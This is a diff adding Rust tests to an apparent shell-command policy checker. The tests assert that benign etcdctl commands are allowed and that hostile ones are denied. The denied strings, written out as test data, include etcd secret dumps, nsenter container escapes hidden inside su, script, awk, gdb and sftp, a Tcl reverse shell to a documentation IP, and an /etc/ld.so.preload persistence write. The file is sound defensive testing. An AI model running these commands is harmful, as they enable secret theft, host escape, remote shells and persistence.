@@ -216,3 +216,63 @@ fn shell_state_and_transforms_are_seen_through() {
         assert_eq!(v.decision, Decision::Allow, "{cmd}: {:?}", v.rule_ids());
     }
 }
+
+/// The decision for `cmd` under the default policy.
+fn decide(cmd: &str) -> Decision {
+    checker().check(cmd, &Policy::default()).decision
+}
+
+#[test]
+fn plain_etcdctl_use_is_allowed_and_secret_reads_are_denied() {
+    for benign in [
+        "etcdctl get my/key",
+        "etcdctl put my/key my_value",
+        "etcdctl watch my/key",
+    ] {
+        assert_eq!(decide(benign), Decision::Allow, "{benign}");
+    }
+    assert_eq!(decide("etcdctl snapshot save s.db"), Decision::Warn);
+    for bad in [
+        "etcdctl get /registry/secrets --prefix",
+        "etcdctl get \"\" --prefix --keys-only",
+        "etcdctl --endpoints=https://10.0.0.2:2379 snapshot save s.db",
+        "etcdctl --cacert /etc/kubernetes/pki/etcd/ca.crt get foo",
+    ] {
+        assert_eq!(decide(bad), Decision::Deny, "{bad}");
+    }
+}
+
+#[test]
+fn su_and_script_run_their_command_string_wherever_it_is() {
+    for cmd in [
+        "su -l bob -c 'nsenter -t 1 -m sh'",
+        "su - -c 'nsenter -t 1 -m sh'",
+        "script -qc 'nsenter -t 1 -m sh' /dev/null",
+    ] {
+        assert_eq!(decide(cmd), Decision::Deny, "{cmd}");
+    }
+}
+
+#[test]
+fn stdin_programs_of_command_interpreters_are_judged() {
+    for cmd in [
+        "tclsh <<< 'set s [socket 198.51.100.7 4242]; while 1 { gets $s c; puts $s [exec sh -c $c] }'",
+        "awk -f - <<< 'BEGIN{system(\"nsenter -t 1 -m sh\")}'",
+        "gdb -batch -x /dev/stdin <<< '!nsenter -t 1 -m sh'",
+        "sftp -b - host <<< '!nsenter -t 1 -m sh'",
+    ] {
+        assert_eq!(decide(cmd), Decision::Deny, "{cmd}");
+    }
+}
+
+#[test]
+fn interpreter_writes_reach_the_persistence_rules() {
+    assert_eq!(
+        decide("python3 -c 'open(\"/etc/ld.so.preload\",\"w\").write(\"/tmp/x.so\")'"),
+        Decision::Deny
+    );
+    assert_eq!(
+        decide("python3 -c 'print(open(\"/etc/hostname\").read())'"),
+        Decision::Allow
+    );
+}
